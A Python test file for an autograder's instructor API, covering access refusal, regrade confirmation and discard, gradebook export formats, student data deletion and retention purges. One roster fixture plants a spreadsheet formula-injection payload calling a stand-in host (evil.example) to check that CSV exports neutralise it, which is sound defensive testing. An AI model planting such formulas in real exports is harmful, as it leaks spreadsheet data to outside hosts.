"""The instructor's API against the real app, a real database (SQLite file and PostgreSQL) and
the real grader: students refused everywhere; a regrade shows each student's score before and
after, and changes nothing students or exports see until confirmed (then audited); discard;
the gradebook in every format with its filters (a formula planted in a name stays text); the
deletion of a student's data; the retention purge."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path

import pytest
from conftest import make_course, nbgrader_export, run_nbgrader
from litestar.testing import TestClient
from sqlalchemy import func, select
from test_service_sync import T0, grade_notebooks, open_database, store_graded

from autograder import commands
from autograder.course import Course
from autograder.grader import Grader
from autograder.roster import import_roster
from autograder.service import queue, retention
from autograder.service.app import create_app
from autograder.service.auth import issue_token
from autograder.service.models import (
    AuditEntry,
    Job,
    Person,
    Regrade,
    Result,
    Role,
    Submission,
)
from autograder.service.settings import Service
from autograder.submissions import Submission as GradedSubmission

INSTRUCTOR, STUDENT = "90001", "10001"
BASE = "/api/instructor"
ROUTES = [("GET", f"{BASE}/assignments/backprop/submissions"),
          ("GET", f"{BASE}/assignments/backprop/students?missing=true"),
          ("POST", f"{BASE}/assignments/backprop/regrades"),
          ("GET", f"{BASE}/regrades/1"),
          ("POST", f"{BASE}/regrades/1/confirm"),
          ("POST", f"{BASE}/regrades/1/discard"),
          ("GET", f"{BASE}/assignments/backprop/gradebook?format=csv"),
          ("POST", f"{BASE}/assignments/backprop/gradebook?format=moodle"),
          ("GET", f"{BASE}/audit"),
          ("DELETE", f"{BASE}/students/10002/data")]


@pytest.fixture(scope="module")
def graded_notebooks(course: Course, release_notebook, solution):  # noqa: ANN001, ANN201
    return grade_notebooks(course, release_notebook, solution)


@dataclass
class Running:
    client: TestClient
    db: object
    course: Course
    tokens: dict[str, str] = field(default_factory=dict)

    def auth(self, person: str = INSTRUCTOR) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.tokens[person]}"}

    def get(self, path: str, person: str = INSTRUCTOR):  # noqa: ANN201
        return self.client.get(BASE + path, headers=self.auth(person))

    def post(self, path: str, body: object = None, person: str = INSTRUCTOR):  # noqa: ANN201
        return self.client.post(BASE + path, json=body, headers=self.auth(person))


def start(course: Course, database_url: str) -> Running:
    db = open_database(database_url)
    with db.session() as session:
        session.add(Person(id=INSTRUCTOR, role=Role.INSTRUCTOR, name="Ines Instructor"))
        for student in (STUDENT, "10002"):
            session.add(Person(id=student, role=Role.STUDENT, name=f"Student {student}"))
        session.flush()
        tokens = {person: issue_token(session, person) for person in (INSTRUCTOR, STUDENT)}
    app = create_app(course, db, Service(config=course.config))
    return Running(TestClient(app), db, course, tokens)


@pytest.fixture
def fresh_course(tmp_path: Path) -> Course:
    (tmp_path / "course").mkdir()
    return make_course(tmp_path / "course")


@pytest.fixture
def running(fresh_course: Course, database_url: str) -> Iterator[Running]:
    service = start(fresh_course, database_url)
    with service.client:
        yield service
    service.db.dispose()


def work_the_queue(running: Running) -> int:
    """A worker's loop, through the queue's own functions and the real grader: claim every
    job of the course's current version, grade it, complete it."""
    done = 0
    with Grader(running.course, workers=1) as grader:
        assignment = grader.assignment("backprop")
        while True:
            claimed = queue.claim(running.db, "test-worker",
                                  {"backprop": assignment.fingerprint}, 10, 60.0)
            if not claimed:
                return done
            for job in claimed:
                result = grader.grade_one(assignment, GradedSubmission(
                    job.student_id, notebook=Path("backprop.ipynb"),
                    timestamp=job.submitted_at.isoformat(), content=job.content))
                assert queue.complete(running.db, job.job_id, "test-worker", result)
                done += 1


def mis_graded(graded_notebooks, notebook: str, result: str) -> tuple[bytes, str]:  # noqa: ANN001
    """`notebook`'s bytes with the result another notebook got: as if a hidden test had been
    wrong when it was graded (a regrade with the tests as they are now corrects it)."""
    return graded_notebooks[notebook][0], graded_notebooks[result][1]


def student_sees(running: Running, submission_id: str) -> float:
    """The score of the result the student's API serves for a submission (its feedback and
    status read this one published result)."""
    from autograder.service.student_api import _published_result

    with running.db.session() as session:
        return _published_result(session, submission_id).score


def audit(running: Running, action: str) -> list[AuditEntry]:
    with running.db.session() as session:
        return list(session.scalars(select(AuditEntry).where(AuditEntry.action == action)))


# --- Access -------------------------------------------------------------------------------------

def test_students_and_strangers_are_refused_on_every_instructor_route(
        course: Course, database_url: str) -> None:
    service = start(course, database_url)
    try:
        with service.client:
            for method, path in ROUTES:
                as_student = service.client.request(method, path, headers=service.auth(STUDENT),
                                                    json={} if method == "POST" else None)
                assert as_student.status_code == 403, (method, path, as_student.text)
                nobody = service.client.request(method, path)
                assert nobody.status_code == 401, (method, path, nobody.text)
            # and the routes exist: the instructor gets through
            assert service.get("/audit").status_code == 200
            assert service.get("/assignments/nope/submissions").status_code == 404
        with service.db.session() as session:  # the student's DELETE deleted nothing
            assert session.scalar(select(func.count()).select_from(AuditEntry)) == 0
    finally:
        service.db.dispose()


# --- Regrades ---------------------------------------------------------------------------

def test_a_regrade_changes_nothing_until_confirmed_then_publishes_and_audits(
        running: Running, graded_notebooks, tmp_path: Path) -> None:
    from autograder.results import SubmissionResult
    from autograder.service import course_sync

    full, partial = (SubmissionResult.from_json(graded_notebooks[n][1]).score
                     for n in ("full", "partial"))
    # 10001's full notebook was graded as partial (a wrong test then); 10002's is partial.
    wrong = store_graded(running.db, STUDENT, mis_graded(graded_notebooks, "full", "partial"),
                         T0)
    store_graded(running.db, "10002", graded_notebooks["partial"], T0)
    course_sync.sync_all(running.course, running.db, "backprop")

    started = running.post("/assignments/backprop/regrades", {"students": None})
    assert started.status_code == 202, started.text
    regrade = started.json()["id"]
    shown = running.get(f"/regrades/{regrade}").json()
    assert not shown["done"] and {row["state"] for row in shown["students"]} == {"queued"}
    assert running.post(f"/regrades/{regrade}/confirm").status_code == 409  # not finished

    assert work_the_queue(running) == 2
    shown = running.get(f"/regrades/{regrade}").json()
    rows = {row["student_id"]: row for row in shown["students"]}
    assert shown["done"] and shown["changed"] == 1
    assert (rows[STUDENT]["before"], rows[STUDENT]["after"]) == (partial, full)
    assert rows[STUDENT]["changed"] and not rows["10002"]["changed"]
    assert rows["10002"]["before"] == rows["10002"]["after"] == partial

    # Not confirmed: the student, the gradebook and nbgrader's export see the old score.
    assert student_sees(running, wrong.submission_id) == pytest.approx(partial)
    book = {row["student_id"]: row for row in
            running.get("/assignments/backprop/gradebook?format=json").json()}
    assert book[STUDENT]["score"] == pytest.approx(partial)
    assert float(nbgrader_export(running.course, tmp_path / "e1")[STUDENT]["score"]) == \
        pytest.approx(partial)
    assert audit(running, "regrade.confirm") == []

    confirmed = running.post(f"/regrades/{regrade}/confirm")
    assert confirmed.status_code == 200, confirmed.text
    assert confirmed.json()["state"] == "confirmed"
    book = {row["student_id"]: row for row in
            running.get("/assignments/backprop/gradebook?format=json").json()}
    assert book[STUDENT]["score"] == pytest.approx(full)
    assert book["10002"]["score"] == pytest.approx(partial)
    assert float(nbgrader_export(running.course, tmp_path / "e2")[STUDENT]["score"]) == \
        pytest.approx(full)
    assert student_sees(running, wrong.submission_id) == pytest.approx(full)
    [entry] = audit(running, "regrade.confirm")  # one per changed student
    assert entry.actor == INSTRUCTOR and entry.target == f"backprop/{STUDENT}"
    assert str(partial) in entry.old_value and str(full) in entry.new_value
    with running.db.session() as session:  # the first grading stays, for the history
        kept = session.scalars(select(Result).where(
            Result.submission_id == wrong.submission_id)).all()
        assert len(kept) == 2 and all(row.published for row in kept)
    assert running.post(f"/regrades/{regrade}/confirm").status_code == 409
    listed = running.get("/audit").json()
    assert [item["action"] for item in listed][:2] == ["regrade.confirm", "regrade.start"]


def test_discard_drops_the_drafts_and_a_typo_queues_nothing(
        running: Running, graded_notebooks) -> None:
    wrong = store_graded(running.db, STUDENT, mis_graded(graded_notebooks, "full", "blank"), T0)
    refused = running.post("/assignments/backprop/regrades", {"students": [STUDENT, "1000l"]})
    assert refused.status_code == 422 and "1000l" in refused.text
    assert running.post("/assignments/backprop/regrades",
                        {"students": "10001"}).status_code == 400  # not a list
    with running.db.session() as session:
        assert session.scalar(select(func.count()).select_from(Regrade)) == 0
        assert session.scalar(select(func.count()).select_from(Job)) == 1

    regrade = running.post("/assignments/backprop/regrades", {"students": [STUDENT]}).json()["id"]
    assert work_the_queue(running) == 1
    assert running.get(f"/regrades/{regrade}").json()["changed"] == 1
    discarded = running.post(f"/regrades/{regrade}/discard")
    assert discarded.status_code == 200 and discarded.json()["state"] == "discarded"
    with running.db.session() as session:
        assert session.scalar(select(func.count()).select_from(Result)
                              .where(Result.published.is_(False))) == 0
        [only] = session.scalars(select(Result).where(
            Result.submission_id == wrong.submission_id)).all()
        assert only.id == wrong.id
    [entry] = audit(running, "regrade.discard")
    assert entry.actor == INSTRUCTOR and '"drafts": 1' in entry.old_value
    assert running.post(f"/regrades/{regrade}/confirm").status_code == 409


# --- Gradebook and filters ---------------------------------------------------------------

def test_gradebook_formats_and_filters(running: Running, graded_notebooks,
                                       tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text("id,first_name,last_name,email,lms_user_id\n"
                      "10001,Ada,Alvarez,ada@example.org,\n"
                      "10002,Bo,Brandt,bo@example.org,\n"
                      '10003,"=HYPERLINK(""http://evil.example/?x=""&A1)",Mallory,m@example.org,\n')
    import_roster(running.course, roster)
    run_nbgrader(running.course, "db", "assignment", "add", "backprop",
                 "--duedate=2026-03-02 09:30:00 UTC")
    on_time = store_graded(running.db, STUDENT, graded_notebooks["full"], T0)
    late = store_graded(running.db, "10002", graded_notebooks["partial"], T0 + timedelta(hours=1))

    missing = running.get("/assignments/backprop/students?missing=true").json()
    assert [row["student_id"] for row in missing] == ["10003"]
    everyone = {row["student_id"]: row for row in
                running.get("/assignments/backprop/students").json()}
    assert everyone["10002"]["late"] is True and everyone[STUDENT]["late"] is False
    assert everyone["10003"]["status"] == "missing"

    def ids(query: str) -> list[str]:
        answer = running.get(f"/assignments/backprop/submissions{query}")
        assert answer.status_code == 200, answer.text
        return [row["id"] for row in answer.json()]

    assert ids("?late=true") == [late.submission_id]
    assert ids("?late=false") == [on_time.submission_id]
    assert sorted(ids("?status=graded")) == sorted([on_time.submission_id, late.submission_id])
    assert ids("?status=queued") == []
    assert ids(f"?student={STUDENT}") == [on_time.submission_id]

    book = {row["student_id"]: row for row in
            running.get("/assignments/backprop/gradebook?format=json").json()}
    assert book[STUDENT]["score"] == pytest.approx(on_time.score)
    assert book[STUDENT]["submission_id"] == on_time.submission_id
    assert book["10002"]["late"] is True and book["10003"]["status"] == "missing"
    assert book["10003"]["score"] == 0

    answer = running.get("/assignments/backprop/gradebook?format=csv")
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    rows = {row["student_id"]: row for row in csv.DictReader(io.StringIO(answer.text))}
    assert rows["10003"]["first_name"].startswith("'=HYPERLINK")  # text, not a formula
    assert not any(cell.startswith("=") for row in rows.values() for cell in row.values())
    # the same file `autograder export` writes
    assert answer.content == commands.export(running.course, "backprop",
                                             path=tmp_path / "cli.csv").read_bytes()

    canvas = running.get("/assignments/backprop/gradebook?format=canvas")
    assert canvas.status_code == 422 and "assignment_id" in canvas.text
    moodle = running.get("/assignments/backprop/gradebook?format=moodle")
    assert moodle.status_code == 422 and "POST" in moodle.text
    worksheet = ("Identifier,Full name,Email address,Status,Grade,Maximum Grade,"
                 "Grade can be changed,Last modified (grade),Feedback comments\n"
                 "Participant 10001,Ada Alvarez,ada@example.org,Submitted,,100.00,Yes,-,\n")
    filled = running.client.post(f"{BASE}/assignments/backprop/gradebook?format=moodle",
                                 content=worksheet.encode(), headers=running.auth())
    assert filled.status_code == 200, filled.text
    template = tmp_path / "worksheet.csv"
    template.write_text(worksheet)
    assert filled.content == commands.export(running.course, "backprop", "moodle",
                                             tmp_path / "cli-moodle.csv",
                                             template).read_bytes()
    assert running.get("/assignments/backprop/gradebook?format=pdf").status_code == 422


# --- Deletion and retention -------------------------------------------------------------

def test_deleting_a_students_data_is_complete_and_audited(
        running: Running, graded_notebooks) -> None:
    store_graded(running.db, STUDENT, graded_notebooks["full"], T0)
    store_graded(running.db, STUDENT, graded_notebooks["blank"], T0 + timedelta(hours=1))
    other = store_graded(running.db, "10002", graded_notebooks["partial"], T0)
    assert running.client.get("/api/me", headers=running.auth(STUDENT)).status_code == 200

    answer = running.client.delete(f"{BASE}/students/{STUDENT}/data", headers=running.auth())
    assert answer.status_code == 200, answer.text
    deleted = answer.json()["deleted"]
    assert deleted["submission"] == 2 and deleted["job"] == 2 and deleted["result"] == 2
    assert deleted["api_token"] == 1
    assert running.client.get("/api/me", headers=running.auth(STUDENT)).status_code == 401
    with running.db.session() as session:
        assert session.scalar(select(func.count()).select_from(Submission)
                              .where(Submission.student_id == STUDENT)) == 0
        assert session.scalar(select(func.count()).select_from(Result)
                              .where(Result.student_id == STUDENT)) == 0
        assert session.get(Submission, other.submission_id) is not None  # others' stay
    [entry] = audit(running, "student.delete_data")
    assert entry.actor == INSTRUCTOR and entry.target == STUDENT
    assert '"submission": 2' in entry.old_value


def test_retention_purges_old_submissions_only(database_url: str, graded_notebooks) -> None:
    db = open_database(database_url)
    try:
        old = store_graded(db, STUDENT, graded_notebooks["full"], T0)
        recent = store_graded(db, STUDENT, graded_notebooks["full"], T0 + timedelta(days=20))
        with db.session() as session:  # old, but never graded yet: kept
            session.add(Person(id="10002", role=Role.STUDENT))
            session.flush()
            waiting = queue.enqueue_submission(session, student_id="10002",
                                               assignment="backprop", filename="b.ipynb",
                                               content=b"{}", fingerprint="f" * 64,
                                               now=T0 - timedelta(days=1)).id
        now = T0 + timedelta(days=31)
        assert retention.purge_older_than(db, 0, now=now) == 0  # 0: kept
        assert retention.purge_older_than(db, 30, now=now) == 1
        with db.session() as session:
            assert session.get(Submission, old.submission_id) is None
            assert session.scalar(select(func.count()).select_from(Result)
                                  .where(Result.submission_id == old.submission_id)) == 0
            assert session.get(Submission, recent.submission_id) is not None
            assert session.get(Submission, waiting) is not None
    finally:
        db.dispose()


def test_an_lms_file_names_students_of_any_script_in_its_headers() -> None:
    """Roster ids may be in any script, and the LMS file's warnings name students: a header
    carries only Latin-1 (Litestar answered 500 for "łukasz"), so they go as ASCII escapes;
    the file's own name is given in UTF-8 too (RFC 6266's filename*)."""
    from autograder.service.instructor_api import _lms_file

    answer = _lms_file("übung", "moodle", b"x", ["2 graded student(s) are not in the "
                                                 'worksheet: łukasz, 李雷, "quoted"'], {})
    for name, value in answer.headers.items():
        value.encode("latin-1")  # what an HTTP header may carry
        assert '"quoted"' not in value, name
    assert "\\u0142ukasz" in answer.headers["X-Autograder-Warnings"]
    assert "filename*=UTF-8''%C3%BCbung-moodle.csv" in answer.headers["Content-Disposition"]
